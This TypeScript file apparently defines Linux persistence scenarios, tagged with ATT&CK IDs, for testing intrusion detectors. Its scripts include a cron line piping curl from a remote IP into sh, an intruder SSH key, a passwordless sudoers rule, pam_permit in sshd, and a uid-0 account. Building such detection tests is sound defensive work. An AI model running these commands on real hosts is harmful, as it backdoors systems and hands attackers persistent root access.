import { scenarios } from "../scenario.ts";

const LINE = "* * * * * root curl -s http://203.0.113.10/script.sh | sh";

/** Ways to come back. */
export const PERSISTENCE = scenarios([
  {
    id: "persistence.cron",
    title: "a file in /etc/cron.d",
    techniques: ["T1053", "T1053.003"],
    quick: true,
    script: `act; echo '${LINE}' > /etc/cron.d/sysstat-update; sleep 0.5`,
  },
  {
    id: "persistence.crontab-child",
    title: "a user's crontab, written by a child of a child and renamed into place",
    techniques: ["T1053", "T1053.003"],
    script: `act; sh -c "sh -c \\"echo '${LINE}' > /var/spool/cron/crontabs/.t; mv /var/spool/cron/crontabs/.t /var/spool/cron/crontabs/root\\""; sleep 0.5`,
  },
  {
    id: "persistence.unit",
    title: "a systemd unit and its link to be started at boot",
    techniques: ["T1543", "T1543.002"],
    script:
      "act; printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/net-sync.service; mkdir -p /etc/systemd/system/multi-user.target.wants; ln -s ../net-sync.service /etc/systemd/system/multi-user.target.wants/net-sync.service; sleep 0.5",
  },
  {
    id: "persistence.profile",
    title: "a line in everybody's shell profile",
    techniques: ["T1546", "T1546.004"],
    variant: "scripted",
    needs: ["python3"],
    script: `act; python3 -c 'import time
open("/etc/profile.d/locale-fix.sh","w").write("id\\n"); open("/root/.bashrc","a").write("id\\n"); time.sleep(0.5)'`,
  },
  {
    id: "persistence.authorized-keys",
    title: "a key of one's own in authorized_keys",
    techniques: ["T1098", "T1098.004"],
    script: "act; echo 'ssh-rsa AAAA intruder' >> /root/.ssh/authorized_keys; sleep 0.5",
  },
  {
    id: "persistence.preload",
    title: "a library for every program: /etc/ld.so.preload",
    techniques: ["T1574", "T1574.006"],
    // Its name only: a file that is there would be read by every program of the room.
    script: "act; echo > /etc/ld.so.preload; sleep 0.5; rm -f /etc/ld.so.preload",
  },
  {
    id: "persistence.sudoers",
    title: "a rule for sudo, by a renamed copy of tee",
    techniques: ["T1548", "T1548.003"],
    variant: "renamed",
    script:
      "act; cp /usr/bin/tee /tmp/logger; echo 'www-data ALL=(ALL) NOPASSWD: ALL' | /tmp/logger /etc/sudoers.d/99-sync; sleep 0.5",
  },
  {
    id: "persistence.pam",
    title: "a line in a PAM service",
    techniques: ["T1556", "T1556.003"],
    script: "act; echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd; echo >> /etc/pam.d/common-auth; sleep 0.5",
  },
  {
    id: "persistence.account",
    title: "an account with user id 0",
    techniques: ["T1136", "T1136.001", "T1098"],
    script:
      "act; echo 'backup2:x:0:0::/root:/bin/sh' >> /etc/passwd; echo 'backup2:!:1::::::' >> /etc/shadow; sleep 0.5",
  },
  {
    id: "persistence.interleaved",
    title: "cron and a key, while the server goes on serving",
    techniques: ["T1053", "T1053.003", "T1098", "T1098.004"],
    variant: "interleaved",
    script: `sleep 1; act; echo '${LINE}' > /etc/cron.d/popularity; echo 'ssh-rsa AAAA intruder2' >> /home/ann/.ssh/authorized_keys; sleep 0.5`,
  },
]);
